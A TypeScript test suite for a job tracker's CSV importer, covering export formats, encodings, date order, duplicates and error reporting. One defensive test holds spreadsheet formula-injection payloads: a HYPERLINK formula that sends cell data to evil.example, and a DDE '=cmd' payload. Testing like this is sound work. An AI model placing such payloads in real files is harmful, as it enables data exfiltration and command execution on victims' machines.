import { testDrivers } from "@loopwise/db/testing";
import { describe, expect, it } from "vitest";
import { apiSuite, NOW } from "../../../test-support/server-harness.js";
import { csvClient, fixture } from "./fixtures/csv/client.js";

describe.each(testDrivers())("CSV import of tracker exports and spreadsheets on %s", (kind) => {
  const suite = apiSuite(kind);
  const api = suite.api;
  const csv = csvClient(api.request);

  /** Every application of the user, in detail, by role title. */
  async function applications() {
    const list = await api.call("GET", "/api/applications?archived=include");
    const details = await Promise.all(
      list.body.applications.map(
        async (a: { id: string }) => (await api.call("GET", `/api/applications/${a.id}`)).body,
      ),
    );
    return new Map(details.map((d) => [d.application.roleTitle as string, d.application]));
  }

  it("reads a Huntr export: format, mapping, lines, then imports it with progress", async () => {
    const bytes = fixture("huntr.csv");
    const preview = await csv.preview(bytes);
    expect(preview.status).toBe(200);
    expect(preview.body).toMatchObject({ encoding: "utf-8", delimiter: ",", format: "huntr", rows: 7 });
    expect(preview.body.formatNote).toMatch(/“Interview” or “Interviewing” becomes Recruiter screen/);
    expect(preview.body.mapping).toEqual({
      Company: "companyName",
      "Job Title": "roleTitle",
      List: "status",
      URL: "postingUrl",
      Location: "location",
      Salary: "salary",
      "Date Added": "ignore",
      "Date Applied": "appliedOn",
      Description: "notes",
    });
    // The BOM is gone from the first header; the multi-line description pushes the next row to line 4.
    expect(preview.body.headers[0]).toBe("Company");
    expect(preview.body.sample.map((r: { line: number }) => r.line)).toEqual([2, 4, 5, 6, 7, 8, 9]);
    expect(preview.body.sample[0].cells.slice(0, 2)).toEqual(["Acme, Inc.", "Senior Backend Engineer"]);

    const check = await csv.check(bytes);
    expect(check.status).toBe(200);
    expect(check.body).toMatchObject({
      rows: 7,
      toCreate: 6,
      duplicates: 1,
      newCompanies: 6,
      errors: [],
      errorCount: 0,
    });
    expect(check.body.duplicateRows).toEqual([
      { line: 8, companyName: "acme, inc.", roleTitle: "senior backend engineer", sameAs: 2 },
    ]);
    expect(check.body.warnings).toContain(
      "1 salary could not be read as a yearly amount; the text is kept in the notes",
    );
    expect(await applications()).toEqual(new Map()); // the dry run wrote nothing

    const run = await csv.run(bytes);
    expect(run.status).toBe(200);
    expect(run.type).toMatch(/^application\/x-ndjson/);
    expect(run.events).toEqual([
      { type: "progress", done: 0, total: 6 },
      { type: "progress", done: 6, total: 6 },
      { type: "done", created: 6, duplicates: 1, companiesCreated: 6 },
    ]);

    const apps = await applications();
    expect(apps.get("Senior Backend Engineer")).toMatchObject({
      companyName: "Acme, Inc.",
      stage: "applied",
      appliedOn: "2025-01-06",
      stageEnteredAt: "2025-01-06T00:00:00.000Z",
      salaryMin: 161000,
      salaryMax: 255000,
      salaryCurrency: "USD",
      location: "San Francisco, CA",
      postingUrl: "https://jobs.acme.example/123",
      notes: "Go, Postgres and Kafka.\nTeam of 8; on-call one week in six.",
    });
    expect(apps.get("Platform Engineer")).toMatchObject({ companyName: "Zoë Müller GmbH", stage: "interested" });
    expect(apps.get("Staff Engineer")).toMatchObject({
      stage: "recruiter_screen",
      stageEnteredAt: NOW,
      salaryMin: 180000,
      salaryMax: 210000,
      notes: "Referral from Sam",
    });
    expect(apps.get("Engineering Manager")).toMatchObject({
      stage: "offer",
      postingUrl: "https://initech.example/jobs/em",
      salaryMin: 200000,
      salaryMax: 200000,
    });
    expect(apps.get("Site Reliability Engineer")).toMatchObject({
      stage: "rejected",
      salaryMin: null,
      notes: 'Said "not a fit" after the loop\n\nSalary: competitive',
    });
    expect(apps.get("Backend Engineer (平台)")).toMatchObject({ companyName: "北京字节跳动", stage: "applied" });

    const id = apps.get("Staff Engineer").id;
    const history = await api.call("GET", `/api/applications/${id}/history`);
    expect(history.body.history).toEqual([
      { id: expect.any(String), fromStage: null, toStage: "recruiter_screen", at: NOW },
    ]);
  });

  it("puts imported cards at the end of their columns, in file order", async () => {
    const first = await api.call("POST", "/api/applications", {
      companyName: "Existing",
      roleTitle: "Already here",
      stage: "applied",
    });
    await csv.run(fixture("huntr.csv"));
    const column = await api.call("GET", "/api/applications?stage=applied&sort=position");
    expect(column.body.applications.map((a: { roleTitle: string }) => a.roleTitle)).toEqual([
      "Already here",
      "Senior Backend Engineer",
      "Backend Engineer (平台)",
    ]);
    expect(column.body.applications[0].id).toBe(first.body.application.id);
  });

  it("reads a Teal export: every status, stars, maximum salary and follow-up dates", async () => {
    const bytes = fixture("teal.csv");
    const preview = await csv.preview(bytes);
    expect(preview.body.format).toBe("teal");
    expect(preview.body.mapping).toMatchObject({
      "Job Position": "roleTitle",
      "Max. Salary": "salaryMax",
      "Date Saved": "ignore",
      Deadline: "ignore",
      "Follow Up": "nextActionDue",
      Excitement: "desirability",
      "Job URL": "postingUrl",
    });
    // "1/22/2025" settles the follow-up column; the applied dates never go above 12 in either place.
    expect(preview.body.dates).toEqual([
      { column: "Date Applied", order: "mdy", evident: false, numeric: 7 },
      { column: "Follow Up", order: "mdy", evident: true, numeric: 1 },
    ]);
    expect(preview.body.warnings.some((w: string) => w.startsWith('Dates in "Date Applied"'))).toBe(true);

    const run = await csv.run(bytes);
    expect(run.last).toEqual({ type: "done", created: 9, duplicates: 0, companiesCreated: 9 });
    const apps = await applications();
    const stages = Object.fromEntries([...apps].map(([role, a]) => [role, a.stage]));
    expect(stages).toEqual({
      "Frontend Engineer": "interested",
      "Design Engineer": "interested",
      "Full Stack Engineer": "applied",
      "Senior Engineer": "recruiter_screen",
      "Principal Engineer": "offer",
      "Tech Lead": "accepted",
      "Backend Engineer": "withdrawn",
      "Data Engineer": "rejected",
      "ML Engineer": "no_response",
    });
    expect(apps.get("Full Stack Engineer")).toMatchObject({
      companyName: "Fabrikam",
      salaryMin: null,
      salaryMax: 140000,
      salaryCurrency: "USD",
      desirability: 5,
      appliedOn: "2025-01-08",
      nextActionDue: "2025-01-22",
      postingUrl: "https://fabrikam.example/fs",
    });
    expect(apps.get("ML Engineer")).toMatchObject({ desirability: null, salaryMax: null, salaryCurrency: null });
  });

  it("reads a semicolon spreadsheet with day-first dates, euro amounts and tags", async () => {
    const bytes = fixture("spreadsheet-semicolon.csv");
    const preview = await csv.preview(bytes);
    expect(preview.body).toMatchObject({ delimiter: ";", format: "spreadsheet", formatNote: null, rows: 5 });
    expect(preview.body.mapping).toEqual({
      Company: "companyName",
      Role: "roleTitle",
      Stage: "status",
      "Date Applied": "appliedOn",
      Salary: "salary",
      Link: "postingUrl",
      Notes: "notes",
      Tags: "tags",
    });
    expect(preview.body.dates).toEqual([{ column: "Date Applied", order: "dmy", evident: true, numeric: 3 }]);
    expect(preview.body.warnings).toEqual([]);

    expect((await csv.run(bytes)).last).toMatchObject({ type: "done", created: 5 });
    const apps = await applications();
    expect(apps.get("Senior Engineer")).toMatchObject({
      companyName: "Zalando SE",
      appliedOn: "2025-04-03",
      salaryMin: 80000,
      salaryMax: 95000,
      salaryCurrency: "EUR",
      notes: "Team Payments; hybrid",
      tags: ["backend", "payments"],
    });
    expect(apps.get("Staff Engineer")).toMatchObject({ appliedOn: "2025-03-25", stage: "recruiter_screen" });
    expect(apps.get("Backend Engineer")).toMatchObject({ appliedOn: "2025-02-01", stage: "no_response" });
    expect(apps.get("Engineering Manager")).toMatchObject({ appliedOn: "2025-02-14", salaryMin: 110000 });
    expect(apps.get("Developer")).toMatchObject({ companyName: "Ünal & Söhne", appliedOn: "2025-01-05" });
  });

  it("reads a Windows-1252 file as such, says so, and keeps the names intact", async () => {
    const bytes = fixture("windows-1252.csv");
    const preview = await csv.preview(bytes);
    expect(preview.body.encoding).toBe("windows-1252");
    expect(preview.body.warnings).toContain("This file is not UTF-8; read it as Windows-1252: check the names below");
    expect(preview.body.sample[0].cells).toEqual([
      "Zoë Müller GmbH",
      "Entwickler – Backend",
      "Applied",
      "2025-02-03",
      "€70k–€85k",
    ]);

    expect((await csv.run(bytes)).last).toMatchObject({ type: "done", created: 3, companiesCreated: 3 });
    const companies = (await api.call("GET", "/api/companies")).body.companies.map((c: { name: string }) => c.name);
    expect(companies).toEqual(["Café Crème SARL", "Señor Søren ApS", "Zoë Müller GmbH"]);
    expect((await applications()).get("Entwickler – Backend")).toMatchObject({
      salaryMin: 70000,
      salaryMax: 85000,
      salaryCurrency: "EUR",
    });
  });

  it("reads a UTF-16 file with its byte-order mark (Excel's Unicode text)", async () => {
    const text = "Company\tRole\tStatus\r\nÅngström AB\tEngineer\tApplied\r\n";
    const bytes = new Uint8Array([0xff, 0xfe, ...new Uint8Array(Buffer.from(text, "utf16le"))]);
    const preview = await csv.preview(bytes);
    expect(preview.body).toMatchObject({
      encoding: "utf-16le",
      delimiter: "\t",
      headers: ["Company", "Role", "Status"],
    });
    expect((await csv.run(bytes)).last).toMatchObject({ type: "done", created: 1 });
  });

  it("a file without a company column: the preview says so and the import asks for the mapping", async () => {
    const bytes = fixture("missing-company.csv");
    const preview = await csv.preview(bytes);
    expect(preview.body.mapping).toEqual({ Title: "roleTitle", Status: "status", "Date Applied": "appliedOn" });
    expect(preview.body.warnings).toContain("No column looks like Company: choose the column that holds it");
    for (const dryRun of [true, false]) {
      const answer = await csv.post({
        file: csv.file(bytes),
        mapping: JSON.stringify(preview.body.mapping),
        dryRun: String(dryRun),
      });
      expect(answer.status).toBe(400);
      expect(answer.body.error.fields).toEqual({ mapping: "no column is mapped to Company, which every row needs" });
    }
  });

  it("stores formula cells as the text they are: nothing evaluated, nothing made a link", async () => {
    const run = await csv.run(fixture("formulas.csv"));
    expect(run.last).toMatchObject({ type: "done", created: 4 });
    const apps = await applications();
    expect(apps.get("Engineer")).toMatchObject({
      companyName: '=HYPERLINK("http://evil.example","Click me")',
      notes: '=HYPERLINK("http://evil.example/steal?c="&A1,"Open")',
      postingUrl: null,
      location: "Remote",
    });
    expect(apps.get("=1+2")).toMatchObject({ companyName: "+Acme", notes: "@SUM(A1:A9)", location: "-2+3" });
    // The apostrophe a spreadsheet (or a CSV export) puts before a formula is its escape: dropped.
    expect(apps.get("+Role")).toMatchObject({ companyName: "=Escaped Ltd", notes: "@note" });
    expect(apps.get("=cmd|' /C calc'!A0")).toMatchObject({ companyName: "Normal Co", notes: "-1+1" });
  });

  it("reports every bad row of a hostile file by its line, and refuses to import it", async () => {
    const bytes = fixture("hostile.csv");
    const check = await csv.check(bytes);
    expect(check.status).toBe(200);
    expect(check.body).toMatchObject({ rows: 9, toCreate: 2, invalidRows: 7, unknownStatuses: ["Phone call"] });
    expect(check.body.errors).toEqual([
      { line: 4, field: "Date Applied", message: '"31/02/2025" is not a date we can read' },
      { line: 5, field: "URL", message: "must be an http(s) URL" },
      { line: 6, field: "Status", message: 'Unknown status "Phone call": choose a stage for it' },
      { line: 7, field: "row", message: "has 7 cells but the header has 6: is a comma not quoted?" },
      { line: 8, field: "Company", message: "is required" },
      { line: 9, field: "row", message: "contains a NUL character: is this a binary file?" },
      { line: 12, field: "row", message: "A quoted cell starts here and is never closed" },
    ]);

    const refused = await csv.run(bytes);
    expect(refused.status).toBe(400);
    expect(refused.body.error.fields.file).toMatch(/^7 rows have errors \(the first on line 4: Date Applied/);
    expect((await api.call("GET", "/api/applications")).body.total).toBe(0);
  });

  it("a stage the user picks for an unknown status clears its error", async () => {
    const bytes = fixture("hostile.csv");
    const check = await csv.check(bytes, { statuses: { "PHONE CALL": "recruiter_screen" } });
    expect(check.body.unknownStatuses).toEqual([]);
    expect(check.body.errors.map((e: { line: number }) => e.line)).not.toContain(6);
    expect(check.body.toCreate).toBe(3);
  });

  it("reads ambiguous dates day-first when the user says so", async () => {
    const bytes = new TextEncoder().encode("Company,Role,Date Applied\nAcme,Engineer,03/04/2025\n");
    expect((await csv.check(bytes)).body.warnings[0]).toMatch(/read as month\/day/);
    const dayFirst = await csv.check(bytes, { dateOrder: "dmy" });
    expect(dayFirst.body.warnings.join(" ")).toMatch(/read as day\/month/);
    await csv.run(bytes, { dateOrder: "dmy" });
    expect((await applications()).get("Engineer")).toMatchObject({ appliedOn: "2025-04-03", stage: "applied" });
  });
});
